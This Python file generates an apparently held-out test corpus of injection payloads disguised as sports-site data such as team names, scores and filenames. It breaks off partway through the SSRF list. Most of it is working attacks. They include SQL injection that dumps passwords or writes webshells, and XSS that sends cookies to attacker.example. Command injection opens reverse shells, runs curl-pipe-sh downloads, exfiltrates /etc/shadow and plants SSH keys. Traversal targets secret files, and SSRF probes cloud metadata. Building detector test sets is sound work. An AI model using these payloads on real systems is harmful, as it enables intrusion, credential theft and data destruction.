r"""Attack held-out corpus "sports" (ids ha38-NNNNN).

Payloads hidden in the fields of a league-management site, a sports-news CMS, a
betting/odds comparison app and a fitness tracker: player and team names, scores,
formations, odds, race times, workout logs, GPX/clip filenames, feed and webhook
URLs, crest uploads, referee notes. Each value is a working payload against an app
that puts it where its class says:

  sqli        str-* inside a quoted SQL literal, num-* as a bare number, order-* in
              ORDER BY, like-* inside a LIKE pattern, insert-* in INSERT VALUES,
              login-* in a login query, column-* as a selected column name,
              json-* inside a JSON body decoded before it reaches SQL.
  xss         html-* into element content, attr-* inside a quoted attribute,
              js-* inside a JS string in a <script> block, url-* into href/src,
              md-* through a markdown renderer, svg-* as an uploaded SVG,
              rcdata/title/comment-breakout out of <textarea>/<title>/comments.
  cmdi        arg-* as an unquoted shell argument, dq-*/sq-* inside double/single
              quotes, win-* on cmd.exe, im-* as an ImageMagick input filename.
  traversal   file-* joined to a download/export directory, include-* as a
              template/locale include, zip-* as an archive entry name.
  ssrf        url-* fetched server-side (logo import, feed, webhook, iCal import).
  code        tpl-* rendered as a server-side template, el-* evaluated as an
              expression language, log4j-* written through Log4j 2, deser-*
              deserialised, xml-*/svg-* parsed as XML, proto-* merged into a JS
              object, csv-* exported into a spreadsheet, eval-* evaluated.
  nosqli      json-*/qs-* parsed into a MongoDB query, str-* inside a $where
              string, agg-* as a pipeline stage, mango-* as a CouchDB selector.
  crlf        header-* placed in a response header, log-* written to a log line,
              mail-*/smtp-* placed in a mail header or SMTP stream.
  ldap-xpath  ldap-* inside an LDAP filter, xpath-* inside an XPath predicate.

Classes starting with plain- are bare payloads without domain text. A +suffix
names the encoding layered on top. Every value is a hand-written literal below or
the output of a small template over hand-written pools; nothing is taken from a
public payload list. Standard library only; byte-identical output on every run.
"""

import base64
import json
import random
from pathlib import Path

SEED = 3802
PREFIX = "ha38"

# ---------------------------------------------------------------------------
# sqli
# ---------------------------------------------------------------------------
SQLI = [
    ("str-union", "Kane' UNION SELECT username, password_hash, email FROM users-- -"),
    ("str-union", "Arsenal' UNION ALL SELECT NULL, table_name, NULL FROM information_schema.tables-- -"),
    ("like-union", "Ødegaard%' UNION SELECT 1, concat(login, ':', pass), 3, 4 FROM admin_accounts#"),
    ("num-union", "38 UNION SELECT 1, @@version, user(), database()"),
    ("num-union", "2024 UNION ALL SELECT id, card_number, cvv, NULL FROM payment_methods-- "),
    ("str-boolean", "Liverpool' OR '1'='1"),
    ("str-boolean", "Chelsea' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'-- -"),
    ("str-boolean", "Mbappé' AND ASCII(SUBSTR((SELECT api_key FROM bookmakers WHERE id=1),1,1))>77-- -"),
    ("num-boolean", "1043 OR 1=1"),
    ("num-boolean", "12 AND (SELECT COUNT(*) FROM users WHERE role='admin' AND password LIKE 'a%')>0"),
    ("str-time", "Salah' AND SLEEP(5)-- -"),
    ("str-time", "Son Heung-min' AND (SELECT 1 FROM (SELECT SLEEP(7))q)-- -"),
    ("str-time", "Inter'||pg_sleep(10)--"),
    ("str-time", "Celtic'; WAITFOR DELAY '0:0:8'--"),
    ("num-time", "7 AND IF(SUBSTRING(user(),1,4)='root',SLEEP(5),0)"),
    ("num-time", "55; SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(6) ELSE pg_sleep(0) END--"),
    ("str-error", "Bayern' AND extractvalue(1, concat(0x7e, (SELECT password FROM users LIMIT 1)))-- -"),
    ("str-error", "Ajax' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("str-error", "Porto' AND updatexml(null, concat(0x3a, (SELECT group_concat(email) FROM members)), null)-- -"),
    ("num-error", "3 AND 1=CAST((SELECT string_agg(usename||':'||passwd, ',') FROM pg_shadow) AS int)"),
    ("str-stacked", "Spurs'; DROP TABLE fixtures;--"),
    ("str-stacked", "5/2'; UPDATE bets SET status='won', payout=9999 WHERE user_id=4471;--"),
    ("str-stacked", "Hibs'; INSERT INTO users(username, password, role) VALUES ('ref2', 'x', 'admin');--"),
    ("num-stacked", "88812; DELETE FROM odds_history--"),
    ("str-oob", r"Leeds'; DECLARE @p varchar(200); SELECT @p=(SELECT TOP 1 password FROM users); EXEC('master..xp_dirtree ''\\'+@p+'.attacker.example\x''');--"),
    ("str-oob", "Norwich' UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/o?'||(SELECT user FROM dual)) FROM dual--"),
    ("str-oob", r"Wolves' AND LOAD_FILE(CONCAT('\\\\', (SELECT password FROM users LIMIT 1), '.x.attacker.example\\a'))-- -"),
    ("order-boolean", "goals DESC, (CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='$' THEN minute ELSE goals END)"),
    ("order-time", "points, (SELECT SLEEP(5) FROM dual WHERE database() LIKE 'league%')"),
    ("order-error", "xg,extractvalue(1,concat(0x7e,version()))"),
    ("insert-subquery", "Great game!', (SELECT password FROM users WHERE username='admin'))-- -"),
    ("insert-subquery", "2-1', (SELECT group_concat(email) FROM users), 1)#"),
    ("login-auth", "admin'-- "),
    ("login-auth", "coach@club.example' OR 1=1 LIMIT 1-- -"),
    ("login-auth", "' OR ''='"),
    ("str-boolean", "4-3-3' AND (SELECT 'x' FROM users WHERE username='admin' AND LENGTH(password)>20)='x"),
    ("str-union", "1:59:40.2' UNION SELECT athlete_id, email, date_of_birth FROM athletes-- -"),
    ("num-union", "-1 UNION SELECT 1,2,group_concat(username,0x3a,password),4,5 FROM users-- -"),
    ("str-union", "W 3:0') UNION SELECT name, sql FROM sqlite_master--"),
    ("str-boolean", "Rangers') OR ('a'='a"),
    ("dq-union", "Pogačar\" UNION SELECT password FROM riders WHERE \"1\"=\"1"),
    ("like-boolean", "Mül%' AND 1=(SELECT COUNT(*) FROM users WHERE is_admin=1 AND password LIKE 'x%')-- -"),
    ("str-stacked", "U12 Girls'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--"),
    ("str-stacked", "Raith'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami';--"),
    ("str-union", "Lakers' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/odds.php'-- -"),
    ("str-union", "Oilers' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("num-boolean", "2.50 OR 2.50=2.50"),
    ("num-union", "150 UNION SELECT sql FROM sqlite_master WHERE type='table'"),
    ("str-boolean", "Kipchoge' AND (SELECT usesuper FROM pg_user WHERE usename=current_user)--"),
    ("str-time", "Leclerc' AND 1=(SELECT 1 FROM PG_SLEEP(5))--"),
    ("str-time", "Verstappen' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',6)--"),
    ("str-time", "Norris' AND 1 IN (SELECT BENCHMARK(40000000, SHA1('x')))-- -"),
    ("str-error", "Alcaraz' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)-- -"),
    ("str-boolean", "Sinner' AND 'a'=(SELECT CASE WHEN (SELECT COUNT(*) FROM users)>10 THEN 'a' ELSE 'b' END)-- -"),
    ("column-union", "goals FROM player_stats UNION SELECT password FROM users-- -"),
    ("str-stacked", "Brentford'; ATTACH DATABASE '/var/www/static/x.php' AS x; CREATE TABLE x.t (c text); INSERT INTO x.t VALUES ('<?php system($_GET[\"c\"]); ?>');--"),
    ("str-boolean", "Kadıköy' OR 'x'='x' -- "),
    ("str-union", "Bellingham' UNION SELECT NULL,NULL,concat_ws(0x3a,id,api_token) FROM bookmaker_keys LIMIT 5-- -"),
    ("str-boolean+comment", "Messi'/**/OR/**/1=1#"),
    ("str-union+comment", "Mané'/**/UNION/**/SELECT/**/1,user(),3/**/-- -"),
    ("str-union+case", "Rashford' uNiOn SeLeCt username, password FrOm users-- -"),
    ("str-union+urlenc", "Foden%27%20UNION%20SELECT%20email%2Cpassword%20FROM%20users--%20-"),
    ("str-boolean+urlenc", "Saka%27%20OR%20%271%27%3D%271"),
    ("str-union+dblurl", "Rice%2527%2520UNION%2520SELECT%2520NULL%252Cpassword%2520FROM%2520users--%2520-"),
    ("str-boolean+hex", "Kane' AND (SELECT password FROM users WHERE username=0x61646d696e) LIKE 0x6125-- -"),
    ("str-union+char", "Haaland' UNION SELECT name, pass FROM users WHERE role=CHAR(97,100,109,105,110)-- -"),
    ("num-boolean+comment", "1043/**/OR/**/1=1"),
    ("json-time+unicode", "{\"team\": \"Arsenal\\u0027 AND SLEEP(5)-- -\", \"season\": 2024}"),
    ("num-union+newline", "38\nUNION\nSELECT\nusername,\npassword\nFROM\nusers"),
    ("plain-boolean", "' OR 1=1-- -"),
    ("plain-union", "' UNION SELECT username,password FROM users-- -"),
    ("plain-stacked", "1; DROP TABLE users--"),
    ("plain-time", "1' AND SLEEP(5)#"),
    ("plain-error", "' AND 1=CONVERT(int,@@version)--"),
    ("plain-auth", "admin' #"),
    ("plain-boolean", "\" OR \"\"=\""),
]

SQLI_FIELDS = ["Boca Juniors", "Leeds Utd", "Djokovic", "Kvaratskhelia", "Over 2.5", "3-5-2",
               "Parkrun #412", "Deadlift", "Sat 12 Oct", "Block 112", "Tribuna Nord", "Hampden"]
SQLI_COLS = ["username, password_hash", "email, reset_token", "iban, balance", "login, api_secret"]
SQLI_TABLES = ["users", "admin_users", "wallets", "bookmaker_accounts", "members"]


def t_sqli(rng):
    f = rng.choice(SQLI_FIELDS)
    form = rng.randrange(3)
    if form == 0:
        return ("str-union", f"{f}' UNION SELECT {rng.choice(SQLI_COLS)} FROM {rng.choice(SQLI_TABLES)}-- -")
    if form == 1:
        return ("str-boolean", f"{f}' AND (SELECT COUNT(*) FROM {rng.choice(SQLI_TABLES)})>{rng.randint(0, 50)}-- -")
    return ("str-time", f"{f}' AND IF((SELECT COUNT(*) FROM {rng.choice(SQLI_TABLES)})>0,SLEEP({rng.randint(3, 9)}),0)-- -")


# ---------------------------------------------------------------------------
# xss
# ---------------------------------------------------------------------------
XSS = [
    ("html-script", "67' GOAL! Saka makes it 2-1 <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("html-event", "Kane (c) <img src=x onerror=alert(document.domain)>"),
    ("html-svg", "4-3-3 <svg onload=confirm(document.cookie)>"),
    ("html-event", "HT 0-1 <body onload=\"document.location='https://attacker.example/s?c='+document.cookie\">"),
    ("html-event", "Live: VAR check <details open ontoggle=alert(document.cookie)>"),
    ("html-iframe", "Full report <iframe src=\"javascript:alert(origin)\"></iframe>"),
    ("html-iframe", "<iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe> Match abandoned 67'"),
    ("attr-breakout", "Leeds Utd\" onmouseover=\"alert(document.cookie)"),
    ("attr-breakout", "Boca Juniors\"><script>alert(document.domain)</script>"),
    ("attr-sq-breakout", "Ødegaard' autofocus onfocus='alert(document.domain)"),
    ("attr-breakout", "2.50\" style=\"position:fixed;inset:0\" onmouseenter=\"fetch('//attacker.example/'+document.cookie)"),
    ("url-jsuri", "javascript:alert(document.cookie)//https://club.example/news"),
    ("url-jsuri", "javascript:fetch('https://attacker.example/k',{method:'POST',body:localStorage.getItem('token')})"),
    ("url-datauri+b64", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("js-breakout", "Arsenal';alert(document.cookie);//"),
    ("js-breakout", "Lakers\";fetch('//attacker.example/?'+document.cookie);//"),
    ("js-script-close", "Sinner</script><script>alert(document.domain)</script>"),
    ("js-template-literal", "Fenerbahçe ${fetch('//attacker.example/'+document.cookie)}"),
    ("html-event", "Sinner d. Alcaraz <video><source onerror=\"alert(document.domain)\"></video>"),
    ("html-event", "<input autofocus onfocus=alert(document.cookie)> 5x5 @ 100kg"),
    ("html-event", "Great run!! 🏃 <marquee onstart=alert(document.domain)>PB</marquee>"),
    ("html-svg", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("html-event", "<audio src=1 onerror=\"this.src='//attacker.example/?c='+document.cookie\">"),
    ("html-form", "<form action=\"https://attacker.example/login\" method=post><p>Session expired, log in again:</p><input name=user><input type=password name=pass><button>Log in</button></form>"),
    ("html-meta", "Tickets on sale now! <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/tickets\">"),
    ("html-base", "<base href=\"https://attacker.example/\">Derby preview"),
    ("md-link", "[Full highlights](javascript:alert(document.domain))"),
    ("md-image-breakout", "![crest](https://club.example/x.png\"onerror=\"alert(document.cookie))"),
    ("html-object", "<object data=\"javascript:alert(document.domain)\"></object>"),
    ("html-angular", "Player of the month: {{constructor.constructor('alert(document.domain)')()}}"),
    ("html-vue", "Kickabout Thursday {{_c.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}"),
    ("html-script", "<script src=\"https://attacker.example/x.js\"></script>"),
    ("html-script", "Derby day! <script>new Image().src='//attacker.example/l?'+btoa(document.cookie)</script>"),
    ("html-event", "<a href=# onclick=\"alert(document.domain)\">Get 2-for-1 tickets</a>"),
    ("html-event", "<select autofocus onfocus=alert(document.cookie)>"),
    ("html-event", "Rest day 😴 <textarea autofocus onfocus=alert(document.domain)>"),
    ("html-event+b64", "<img src=\"/crests/x.png\" onerror=\"eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))\">"),
    ("rcdata-breakout", "</textarea><script>alert(document.domain)</script>"),
    ("title-breakout", "Leeds v Hull</title><img src=x onerror=alert(document.cookie)>"),
    ("comment-breakout", "--><svg onload=alert(document.domain)><!--"),
    ("attr-breakout", "https://club.example/\" onclick=\"alert(document.cookie)\" x=\""),
    ("js-arith", "'-alert(document.domain)-'"),
    ("js-backslash", "Spurs\\';alert(document.cookie);//"),
    ("url-jsuri+entities", "jav&#x61;script&#58;alert(document.cookie)"),
    ("url-jsuri+case", "JaVaScRiPt:alert(document.domain)"),
    ("url-jsuri+ctrlchars", "java\tscript:alert(document.domain)"),
    ("html-script+case", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("html-event+urlenc", "%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E"),
    ("html-svg+entities", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("json-event+unicode", "{\"comment\": \"Top bins! \\u003cimg src=x onerror=alert(document.domain)\\u003e\"}"),
    ("html-event+entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(document.cookie)\">"),
    ("html-svg-noparens", "<svg/onload=alert`1`>"),
    ("html-event-concat", "<img src=x onerror=window['al'+'ert'](document.domain)>"),
    ("html-iframe", "<iframe src=//attacker.example/fake-login width=100% height=600 frameborder=0></iframe>"),
    ("html-script", "Great match 👏\n<script>\ndocument.forms[0].action='https://attacker.example/collect';\n</script>"),
    ("svg-script", "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><circle r=\"30\" cx=\"32\" cy=\"32\" fill=\"#c00\"/><script>alert(document.domain)</script></svg>"),
    ("html-event", "<body onpageshow=alert(document.domain)>"),
    ("html-event", "W 3:0 <img src=x:y onerror=import('//attacker.example/m.js')>"),
    ("attr-breakout", "4-4-2\"><svg/onload=confirm(document.domain)>"),
    ("html-event", "<div onpointerover=\"alert(document.cookie)\" style=\"height:2000px\">Scroll for live scores</div>"),
    ("html-event", "Match postponed <img src=x onerror=\"document.body.innerHTML='<h1>Match cancelled - refunds at attacker.example</h1>'\">"),
    ("html-script", "<script>document.write('<img src=//attacker.example/?'+encodeURIComponent(document.cookie)+'>')</script>"),
    ("html-event", "Ref's decision: <math><mtext><img src=x onerror=alert(document.domain)></mtext></math>"),
    ("html-event", "<img src=x onerror=\"navigator.sendBeacon('//attacker.example/b',document.cookie)\"> +150"),
    ("attr-breakout+urlenc", "Celtic%22%3E%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("html-event+dblurl", "%253Csvg%2520onload%253Dalert(document.domain)%253E"),
    ("html-style", "<style>@import 'https://attacker.example/x.css';</style>League table"),
    ("html-event", "<input type=image src=x onerror=alert(document.cookie)>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-event", "<img src=x onerror=alert(1)>"),
    ("plain-svg", "<svg onload=alert(1)>"),
    ("plain-breakout", "\"><script>alert(document.domain)</script>"),
    ("plain-jsuri", "javascript:alert(1)"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
    ("plain-js", "'-alert(1)-'"),
    ("plain-event", "<body onload=alert(1)>"),
]

XSS_PREFIXES = ["90+3' Winner!", "Bench boost GW37", "Lap 12: 1:31.447", "Parkrun #412 — 22:31",
                "Block 112, Row M", "Ref note:", "Lakers +6.5 (-110)", "Up the Toffees!!!",
                "Ólafur Guðmundsson", "Squat 3x5 @ 140kg"]
XSS_SINKS = [
    "<img src=x onerror=alert(document.domain)>",
    "<svg onload=fetch('//attacker.example/'+document.cookie)>",
    "<details open ontoggle=alert(document.cookie)>",
    "<script>alert(document.domain)</script>",
]


def t_xss(rng):
    sink = rng.choice(XSS_SINKS)
    cls = "html-script" if sink.startswith("<script") else ("html-svg" if sink.startswith("<svg") else "html-event")
    return (cls, f"{rng.choice(XSS_PREFIXES)} {sink}")


# ---------------------------------------------------------------------------
# cmdi
# ---------------------------------------------------------------------------
CMDI = [
    ("arg-semicolon", "morning_run.gpx; id"),
    ("arg-semicolon", "highlights_2024-03-02.mp4; curl -s http://attacker.example/s.sh | sh"),
    ("arg-pipe", "crest.png | nc 203.0.113.10 4444 -e /bin/sh"),
    ("arg-pipe", "scoreboard.local | cat /etc/passwd"),
    ("arg-and", "splits.csv && wget -q -O /tmp/.x http://198.51.100.23/x && chmod +x /tmp/.x && /tmp/.x"),
    ("arg-or", "nonexistent.fit || bash -c 'bash -i >& /dev/tcp/203.0.113.5/9001 0>&1'"),
    ("arg-subst", "$(id > /var/www/html/static/who.txt)"),
    ("arg-subst", "results_$(whoami).csv"),
    ("arg-backtick", "lap`uname -a`.tcx"),
    ("arg-backtick", "`curl http://attacker.example/$(hostname)`"),
    ("dq-subst", "Spurs v Arsenal $(cat /etc/shadow | base64 -w0 | curl -d @- http://attacker.example/u)"),
    ("dq-backtick", "Match report `rm -rf /var/www/uploads`"),
    ("sq-breakout", "Kane'; id; echo '"),
    ("sq-breakout", "O'$(id)'Brien"),
    ("arg-newline", "10.0.0.12\nid"),
    ("arg-newline", "2024-season.zip\ncurl http://attacker.example/p -o /tmp/p; sh /tmp/p"),
    ("arg-semicolon+ifs", "x;cat${IFS}/etc/passwd"),
    ("arg-semicolon+ifs", "splits.csv;wget${IFS}http://attacker.example/a${IFS}-O${IFS}/tmp/a"),
    ("arg-redirect", "podium.jpg; echo '<?php system($_GET[0]); ?>' > /var/www/html/p.php"),
    ("arg-optinject", "--output=/var/www/html/shell.php http://attacker.example/shell.txt"),
    ("arg-optinject", "-oProxyCommand=curl${IFS}attacker.example/k|sh x"),
    ("arg-optinject", "--checkpoint=1 --checkpoint-action=exec=sh${IFS}/tmp/p.sh"),
    ("arg-optinject", "--upload-pack=touch /tmp/pwned"),
    ("win-amp", "lineup.docx & whoami"),
    ("win-amp", "report.pdf && powershell -nop -c \"iwr http://attacker.example/a.ps1 | iex\""),
    ("win-pipe", "Stadium.jpg | type C:\\Windows\\win.ini"),
    ("win-amp+caret", "fixtures.xlsx & w^h^o^a^m^i"),
    ("arg-semicolon", "1:59:40.2; sleep 10"),
    ("arg-subst", "00:01:12$(sleep 8)"),
    ("arg-semicolon", "U12;ping -c 3 attacker.example"),
    ("arg-subst", "$(nslookup $(whoami).dns.attacker.example)"),
    ("arg-semicolon", "team-logo.png;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("arg-and+b64", "race.fit && echo c3NoLWVkMjU1MTkgQUFBQUMzTnphQzFsWkRJMU5URTVBQUFBSUZBS0VGQUtFRkFLRUZBS0VGQUtFRkFLRUZBS0VGQUtFRkFLRUZBS0UwMDAwIGZha2VAYXR0YWNrZXIuZXhhbXBsZQo= | base64 -d >> ~/.ssh/authorized_keys"),
    ("arg-pipe+b64", "x | echo aWQ7dW5hbWUgLWE= | base64 -d | sh"),
    ("arg-semicolon+hex", "clip.mp4;$'\\x63\\x61\\x74' /etc/passwd"),
    ("arg-semicolon+quotes", "match.mp4;w'h'o'a'm'i"),
    ("arg-semicolon+glob", "x;/???/c?t /???/p?ss??"),
    ("arg-semicolon+urlenc", "morning_run.gpx%3B%20id"),
    ("arg-subst+urlenc", "%24%28curl%20http%3A%2F%2Fattacker.example%2Fr%7Csh%29"),
    ("arg-semicolon+emptyvar", "x;c${u}at /e${u}tc/pas${u}swd"),
    ("arg-semicolon+backslash", "x;c\\at /et\\c/pa\\sswd"),
    ("arg-newline+urlenc", "scoreboard.local%0Aid"),
    ("arg-semicolon", "2-1;env"),
    ("arg-pipe", "W 3:0 | mail -s pwn loot@attacker.example < /etc/passwd"),
    ("arg-semicolon", "4-3-3; rm -f /var/lib/league/db.sqlite3"),
    ("arg-and", "5x5 && (crontab -l; echo '* * * * * curl -s attacker.example/c|sh') | crontab -"),
    ("arg-subst", "$(bash -c 'exec 3<>/dev/tcp/203.0.113.44/80; cat /etc/passwd >&3')"),
    ("dq-breakout", "Ferrari SF-24\"; curl attacker.example/x | sh; echo \""),
    ("arg-semicolon", "lap1.tcx;perl -e 'system(\"id\")'"),
    ("arg-backtick", "`sleep 9`"),
    ("arg-pipe", "heatmap.png|php -r '$s=fsockopen(\"198.51.100.7\",443);exec(\"sh <&3 >&3 2>&3\");'"),
    ("arg-and", "fixtures.ics && touch /tmp/pwned"),
    ("arg-semicolon", "GPX export; id #"),
    ("im-filename-pipe", "|curl -s attacker.example/m|sh"),
    ("arg-semicolon", "1043; busybox nc 203.0.113.77 5555 -e sh"),
    ("arg-and", "report.csv && scp /etc/passwd x@203.0.113.8:/loot/"),
    ("arg-subst", "player_$(curl -s -X POST --data-binary @/app/.env http://attacker.example/e).jpg"),
    ("win-amp", "ipconfig.txt & net user ref2 Fake-Passw0rd /add & net localgroup administrators ref2 /add"),
    ("win-amp", "crest.png & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("dq-subst", "Parkrun #412 — $(curl -s http://attacker.example/i | sh)"),
    ("arg-semicolon", "Zone2.fit;tar czf - /home/league | curl -T - http://attacker.example/up"),
    ("arg-subst", "Lewandowski$(sleep${IFS}6)"),
    ("win-pipe", "splits.csv | powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlAC8AcAApAA=="),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("plain-and", "&& cat /etc/passwd"),
    ("plain-subst", "$(whoami)"),
    ("plain-backtick", "`id`"),
    ("plain-semicolon", "; sleep 5 #"),
    ("plain-win", "& ping -n 5 127.0.0.1 &"),
]

CMDI_FILES = ["long_run_2024-04-07.gpx", "match_1043_highlights.mp4", "crest_hibs.png", "splits_heat3.csv",
              "Sunday_XI.docx", "interval_session.fit", "odds_feed.xml", "parkrun_412.csv"]
CMDI_CMDS = [("arg-semicolon", "; {c}"), ("arg-pipe", " | {c}"), ("arg-and", " && {c}"),
             ("arg-subst", "$({c})"), ("arg-backtick", "`{c}`")]
CMDI_PAYLOADS = ["id", "uname -a", "cat /etc/passwd", "curl -s attacker.example/t|sh",
                 "wget -qO- http://198.51.100.60/k | sh", "sleep 7"]


def t_cmdi(rng):
    cls, sep = rng.choice(CMDI_CMDS)
    return (cls, rng.choice(CMDI_FILES) + sep.format(c=rng.choice(CMDI_PAYLOADS)))


# ---------------------------------------------------------------------------
# traversal
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("file-dotdot", "exports/season-2024/../../../../etc/passwd"),
    ("file-dotdot", "reports/2024/../../../../../etc/shadow"),
    ("file-dotdot", "../../../app/config/settings.py"),
    ("file-dotdot", "../../.env"),
    ("file-dotdot", "crests/../../../../proc/self/environ"),
    ("file-dotdot", "../../../../var/log/nginx/access.log"),
    ("file-dotdot", "gpx/2024/03/../../../../../../home/league/.ssh/id_rsa"),
    ("file-dotdot", "photos/../../../../root/.bash_history"),
    ("file-absolute", "/etc/passwd"),
    ("file-absolute", "/proc/self/cmdline"),
    ("file-absolute", "/app/instance/secret_key"),
    ("file-nullbyte", "../../../../etc/passwd%00.gpx"),
    ("file-nullbyte", "../../../etc/hosts\x00.png"),
    ("file-win", "..\\..\\..\\..\\Windows\\win.ini"),
    ("file-win", "C:\\inetpub\\wwwroot\\web.config"),
    ("file-win", "..\\..\\App_Data\\league.mdf"),
    ("file-unc", "\\\\203.0.113.50\\share\\crest.png"),
    ("file-nested", "....//....//....//etc/passwd"),
    ("file-nested", "..././..././..././etc/passwd"),
    ("file-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("file-dotdot+urlenc", "matchday/..%2f..%2f..%2f..%2fetc%2fshadow"),
    ("file-dotdot+dblurl", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("file-dotdot+overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("file-dotdot+overlong", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("file-win+dblurl", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("file-win+urlenc", "..%5c..%5c..%5cWindows%5cSystem32%5cdrivers%5cetc%5chosts"),
    ("include-dotdot", "en-GB/../../../../../../proc/self/fd/7"),
    ("include-wrapper", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("include-wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("include-wrapper", "file:///etc/passwd"),
    ("include-wrapper", "zip://uploads/avatars/4471.jpg#shell.php"),
    ("include-wrapper", "phar://uploads/gpx/run.gpx/x.php"),
    ("include-log", "../../../../var/log/apache2/access.log"),
    ("include-wrapper", "expect://id"),
    ("include-wrapper+b64", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("zip-slip", "../../../../var/www/html/static/crest.php"),
    ("zip-slip", "../../../../../home/league/.bashrc"),
    ("zip-slip", "..\\..\\..\\..\\inetpub\\wwwroot\\x.aspx"),
    ("file-dotdot", "teams/ars/../../../../etc/group"),
    ("file-dotdot", "season/2023-24/round-38/../../../../../../etc/issue"),
    ("file-dotdot", "gpx/2024/../../../../../../../app/db.sqlite3"),
    ("file-absolute", "/proc/self/cwd/config.yaml"),
    ("file-absolute", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("file-dotdot", "../../../../../../opt/tomcat/webapps/ROOT/WEB-INF/web.xml"),
    ("path-semicolon", "/static/..;/WEB-INF/web.xml"),
    ("file-win", "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config"),
    ("file-dotdot", "Fixtures 2024-25/../../../../etc/passwd"),
    ("file-dotdot+mixedslash", "exports\\..\\../..\\../etc/passwd"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-win", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-dotdot", "../../../../../../../../etc/hosts"),
    ("plain-dotdot+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
]

TRAV_PREFIXES = ["exports/", "crests/", "gpx/", "reports/matchday/", "tickets/pdf/", "clips/2024/"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "app/.env", "root/.ssh/authorized_keys",
                "var/lib/league/db.sqlite3"]


def t_traversal(rng):
    return ("file-dotdot", rng.choice(TRAV_PREFIXES) + "../" * rng.randint(4, 9) + rng.choice(TRAV_TARGETS))


# ---------------------------------------------------------------------------
# ssrf
# ---------------------------------------------------------------------------
SSRF = [
    ("url-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("url-metadata", "http://169.254.169.254/latest/user-data"),
    ("url-metadata", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
    ("url-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("url-metadata", "http://169.254.170.2/v2/metadata"),
    ("url-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("url-metadata", "http://instance-data/latest/meta-data/iam/info"),
    ("url-loopback", "http://127.0.0.1:8080/admin/users"),
    ("url-loopback", "http://localhost:9000/actuator/env"),
    ("url-loopback", "http://[::1]/server-status"),
    ("url-loopback", "http://0.0.0.0:5000/internal/odds/refresh?force=1"),
    ("url-internal", "http://10.0.0.5:9200/_cat/indices?v"),
    ("url-internal", "http://192.168.0.10:2375/containers/json"),
    ("url-internal", "http://172.17.0.1:8500/v1/kv/?recurse"),
    ("url-internal", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("url-internal", "http://10.96.0.10:10255/pods"),
    ("url-internal", "http://db.internal:5984/_all_dbs"),
    ("url-scheme", "file://localhost/etc/passwd"),
    ("url-scheme", "file:///proc/self/environ"),
    ("url-gopher", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%2Fc%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%2F%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
    ("url-dict", "dict://127.0.0.1:11211/stats"),
    ("url-dict", "dict://127.0.0.1:6379/info"),
